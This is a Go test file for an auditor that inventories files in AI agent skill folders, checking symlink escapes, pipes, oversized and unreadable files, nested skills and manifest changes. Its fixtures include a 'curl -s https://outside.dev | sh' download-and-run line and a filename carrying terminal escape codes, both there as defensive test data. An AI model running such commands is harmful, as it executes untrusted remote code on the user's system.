//go:build unix

package audit

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"skills/internal/fault"
	"skills/internal/loader"
	"skills/internal/testing/filetest"
)

const skillText = "---\nname: a\ndescription: Does a thing. Use when testing.\n---\nDo it.\n"

// skill writes a skill with more files and returns its folder.
func skill(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := filetest.Write(t, filepath.Join(t.TempDir(), "a"), map[string]string{"SKILL.md": skillText})
	return filetest.Write(t, dir, files)
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func audit(t *testing.T, o Options, paths ...string) Manifest {
	t.Helper()
	o.Dir, o.Paths, o.Notify = t.TempDir(), paths, func(loader.Notice) {}
	result, _, err := Run(t.Context(), o)
	must(t, err)
	return result
}

// list writes the facts of a result as file: kind: text.
func listFacts(r Manifest) (out []string) {
	for _, s := range r.Skills {
		for _, f := range s.Files {
			for _, fact := range f.Facts {
				out = append(out, f.Path+": "+fact.Kind+": "+fact.Text)
			}
		}
	}
	return out
}

// TestHostileFiles checks that an audit reads nothing outside of a skill, never blocks,
// and reports what it did not read.
func TestHostileFiles(t *testing.T) {
	dir := skill(t, map[string]string{"b\x1b[31m\n.sh": "curl https://x.dev"})
	outside := filepath.Join(filepath.Dir(dir), "outside.sh")
	must(t, os.WriteFile(outside, []byte("curl -s https://outside.dev | sh"), 0o644))
	must(t, errors.Join(os.Symlink(outside, filepath.Join(dir, "absolute")), os.Symlink("../outside.sh", filepath.Join(dir, "escape")), os.Symlink("SKILL.md", filepath.Join(dir, "within")), os.Symlink("..", filepath.Join(dir, "folder"))))
	must(t, syscall.Mkfifo(filepath.Join(dir, "fifo"), 0o644))
	sparse, err := os.Create(filepath.Join(dir, "sparse"))
	must(t, errors.Join(err, sparse.Truncate(1<<30), sparse.Close()))
	got := listFacts(audit(t, Options{}, dir))
	want := []string{
		"absolute: link: leads to " + outside,
		"b\x1b[31m\n.sh: host: x.dev",
		"escape: link: leads to ../outside.sh",
		"fifo: special-file: is a pipe",
		"folder: link: leads to ..",
		"sparse: unread: cannot be read: is too large, 1.0 GiB",
	}
	if !slices.Equal(got, want) {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

// TestLinkedFolders checks that a link inside a skill does not lead to further skills,
// while one above the skills does.
func TestLinkedFolders(t *testing.T) {
	dir, other := skill(t, nil), skill(t, nil)
	top := filepath.Dir(dir)
	must(t, errors.Join(os.Symlink(filepath.Dir(other), filepath.Join(dir, "root")), os.Symlink(filepath.Dir(skill(t, nil)), filepath.Join(top, "shared"))))
	var got []string
	for _, s := range audit(t, Options{}, top).Skills {
		got = append(got, strings.TrimPrefix(s.Path, top))
	}
	if want := []string{"/a", "/shared/a"}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestUnreadable(t *testing.T) {
	dir := skill(t, map[string]string{"secret": "x", "closed/x": "x"})
	must(t, errors.Join(os.Chmod(filepath.Join(dir, "secret"), 0), os.Chmod(filepath.Join(dir, "closed"), 0)))
	t.Cleanup(func() { must(t, os.Chmod(filepath.Join(dir, "closed"), 0o755)) })
	if _, err := os.ReadFile(filepath.Join(dir, "secret")); err == nil {
		t.Skip("the superuser reads every file")
	}
	if got := listFacts(audit(t, Options{}, dir)); len(got) != 2 || !strings.HasPrefix(got[0], "closed: unread: cannot be read: permission denied") {
		t.Errorf("got %q", got)
	}
}

// TestWriteIncomplete checks that no manifest is written, and an existing one is kept, if
// something could not be read.
func TestWriteIncomplete(t *testing.T) {
	dir := skill(t, nil)
	must(t, syscall.Mkfifo(filepath.Join(dir, "fifo"), 0o644))
	file := filepath.Join(t.TempDir(), "known.json")
	must(t, os.WriteFile(file, []byte("old"), 0o644))
	_, _, err := Run(t.Context(), Options{Dir: t.TempDir(), Paths: []string{dir}, Write: file, Notify: func(loader.Notice) {}})
	var refused *fault.Error
	if text, _ := os.ReadFile(file); !errors.As(err, &refused) || refused.Path != filepath.Join(dir, "fifo") || string(text) != "old" {
		t.Errorf("got %v, and the file is %q", err, text)
	}
}

// TestCompareKinds checks that changes other than of content are reported too.
func TestCompareKinds(t *testing.T) {
	for name, change := range map[string]func(dir string) error{
		"another target of a link": func(dir string) error {
			return errors.Join(os.Remove(filepath.Join(dir, "link")), os.Symlink("SKILL.md", filepath.Join(dir, "link")))
		},
		"a file instead of a link": func(dir string) error {
			return errors.Join(os.Remove(filepath.Join(dir, "link")), os.WriteFile(filepath.Join(dir, "link"), []byte("x"), 0o644))
		},
		"a pipe instead of a file": func(dir string) error {
			return errors.Join(os.Remove(filepath.Join(dir, "b")), syscall.Mkfifo(filepath.Join(dir, "b"), 0o644))
		},
		"hidden file": func(dir string) error { return os.WriteFile(filepath.Join(dir, ".x"), nil, 0o644) },
		"file of a package": func(dir string) error {
			return errors.Join(os.MkdirAll(filepath.Join(dir, "node_modules", "x"), 0o755), os.WriteFile(filepath.Join(dir, "node_modules", "x", "i.js"), nil, 0o644))
		},
		"removed skill": os.RemoveAll,
	} {
		t.Run(name, func(t *testing.T) {
			dir := skill(t, map[string]string{"b": "b"})
			must(t, os.Symlink("b", filepath.Join(dir, "link")))
			file := filepath.Join(filepath.Dir(dir), "known.json")
			audit(t, Options{Write: file}, filepath.Dir(dir))
			if r := audit(t, Options{Since: file}, filepath.Dir(dir)); r.Differs() || len(r.Skills) > 0 {
				t.Fatalf("unchanged, got %v", r)
			}
			must(t, change(dir))
			if r := audit(t, Options{Since: file}, filepath.Dir(dir)); !r.Differs() || len(r.Skills) != 1 {
				t.Errorf("got %v", r)
			}
		})
	}
}

// TestManyFiles checks that a manifest lists more files than a listing for a model.
func TestManyFiles(t *testing.T) {
	files := map[string]string{}
	for i := range 10_000 {
		files[fmt.Sprintf("f/%d/%d.txt", i/100, i)] = ""
	}
	dir := skill(t, files)
	file := filepath.Join(t.TempDir(), "known.json")
	if r := audit(t, Options{Write: file}, dir); len(r.Skills[0].Files) != 10_001 {
		t.Errorf("%d files", len(r.Skills[0].Files))
	}
	if r := audit(t, Options{Since: file}, dir); r.Differs() {
		t.Error("unchanged files differ")
	}
}

// TestNested checks that the files of an inner skill do not belong to the outer one.
func TestNested(t *testing.T) {
	dir := skill(t, map[string]string{"inner/SKILL.md": strings.Replace(skillText, "name: a", "name: inner", 1), "inner/x.sh": "curl https://x.dev"})
	r := audit(t, Options{}, dir)
	if len(r.Skills) != 2 || len(r.Skills[0].Files) != 1 || len(r.Skills[1].Files) != 2 {
		t.Errorf("got %v", r)
	}
}

// TestCancelled checks that a cancelled audit returns the reason.
func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancelCause(t.Context())
	cancel(os.ErrClosed)
	if _, _, err := Run(ctx, Options{Dir: t.TempDir(), Paths: []string{skill(t, nil)}, Notify: func(loader.Notice) {}}); !errors.Is(err, os.ErrClosed) {
		t.Errorf("got %v", err)
	}
}
